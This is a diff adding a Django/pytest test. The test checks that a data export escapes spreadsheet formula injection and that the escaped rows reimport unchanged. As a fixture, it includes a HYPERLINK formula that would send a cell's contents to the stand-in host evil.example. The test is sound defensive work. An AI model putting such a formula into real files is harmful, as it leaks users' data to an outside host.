@@ -454,3 +454,25 @@ def test_unchanged_export_reimports_as_skipped(editor_client, model_class, make,
     page = preview(editor_client, model_class, f"export.{extension}", exported.content)
 
     assert [row.import_type for row in page.context["result"].rows] == ["skip"]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("extension", ["csv", "xlsx"])
+def test_text_a_spreadsheet_would_run_exported_inert_and_reimported_as_typed(
+    editor_client, extension
+):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    factories.MunicipalityFactory(
+        profile=formula, region="-Lower Silesia", latitude="36.72", longitude="-4.42"
+    )
+    exported = export(editor_client, Municipality, extension)
+    [row] = load(exported.content, extension).dict
+
+    page = preview(editor_client, Municipality, f"export.{extension}", exported.content)
+
+    assert (row["profile"], row["region"], row["longitude"]) == (
+        "'" + formula,
+        "'-Lower Silesia",
+        {"csv": "-4.42000", "xlsx": -4.42}[extension],  # a number stays a number
+    )
+    assert [row.import_type for row in page.context["result"].rows] == ["skip"]
